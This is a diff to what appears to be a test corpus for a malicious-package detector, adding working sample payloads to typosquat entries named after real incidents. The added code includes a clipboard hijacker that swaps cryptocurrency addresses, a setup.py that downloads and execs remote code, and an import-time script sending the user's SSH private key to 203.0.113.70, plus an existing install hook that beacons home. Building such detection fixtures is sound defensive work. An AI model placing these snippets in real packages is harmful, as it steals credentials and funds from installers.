@@ -133,12 +133,25 @@ SAMPLES = [
     ("demo-private-key", "wheel", {"demo_private_key/deploy_key.pem":
         "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(os.urandom(400)).decode() + "\n-----END OPENSSH PRIVATE KEY-----\n"},
      "a private key shipped in the package", "leaked-credential studies"),
+    # A look-alike name and nothing else: annotated by design (issue 11: name-only signals never
+    # block on their own), so it counts under the `name-only` class, expected "flagged".
     ("reqeusts", "wheel", {"reqeusts/__init__.py": "from requests import *\n"},
      "typosquat of a top project", "typosquatting campaigns"),
-    ("colourama", "wheel", {"colourama/__init__.py": "VERSION = '1'\n"}, "typosquat of colorama", "colourama (2018)"),
-    ("python3-dateutil", "wheel", {"python3_dateutil/__init__.py": "VERSION = '1'\n"},
-     "typosquat of python-dateutil", "python3-dateutil (2019)"),
-    ("jeIlyfish", "wheel", {"jeIlyfish/__init__.py": "VERSION = '1'\n"}, "homoglyph typosquat of jellyfish", "jeIlyfish (2019)"),
+    ("colourama", "wheel", {"colourama/__init__.py":
+        "import threading, time, re, pyperclip\n"
+        "def _swap():\n    while True:\n        if re.match(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', pyperclip.paste()):\n"
+        "            pyperclip.copy('1ExampleAddressExampleAddress000')\n        time.sleep(1)\n"
+        "threading.Thread(target=_swap, daemon=True).start()\n"},
+     "typosquat of colorama that swaps wallet addresses in the clipboard", "colourama (2018)"),
+    ("python3-dateutil", "sdist", {"setup.py":
+        "import urllib.request, zlib, base64\nfrom setuptools import setup\n"
+        "exec(zlib.decompress(base64.b64decode(urllib.request.urlopen('https://code.example.org/raw/x').read())))\n"
+        "setup(name='python3-dateutil', version='1.0')\n"},
+     "typosquat of python-dateutil whose setup.py fetches, decodes and runs code", "python3-dateutil (2019)"),
+    ("jeIlyfish", "wheel", {"jeIlyfish/__init__.py":
+        "import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "urllib.request.urlopen('http://203.0.113.70/k', data=k.encode())\n"},
+     "homoglyph typosquat of jellyfish that sends the SSH key on import", "jeIlyfish (2019)"),
     ("demo-hook-only", "sdist", {"setup.py": setup_with_hook(
         "urllib.request.urlopen('http://203.0.113.7/ping?h=' + socket.gethostname())", "demo-hook-only")},
      "empty package whose only content is an install hook that phones home", "dependency-confusion probes"),
@@ -238,7 +251,8 @@ CLASSES = {
     "demo-zlib-marshal": ["decode-run", "import-time"], "demo-hex-exec": ["decode-run", "import-time"],
     "demo-reverse-b64": ["decode-run", "import-time"], "demo-bidi": ["hidden-code"],
     "demo-aws-key": ["secrets"], "demo-gh-token": ["secrets"], "demo-private-key": ["secrets"],
-    "reqeusts": ["typosquat"], "colourama": ["typosquat"], "python3-dateutil": ["typosquat"], "jeIlyfish": ["typosquat"],
+    "reqeusts": ["name-only"], "colourama": ["typosquat", "screen-capture", "import-time"],
+    "python3-dateutil": ["typosquat", "download-run", "decode-run"], "jeIlyfish": ["typosquat", "credential-theft", "exfiltration", "import-time"],
     "demo-hook-only": ["beacon", "metadata"], "demo-disposable": ["metadata"],
     "demo-shortener": ["shady-links", "download-run"], "demo-trusted-sub": ["shady-links"],
     "demo-sitecustomize": ["install-anomaly", "download-run"], "demo-native-sdist": ["non-source-payload"],
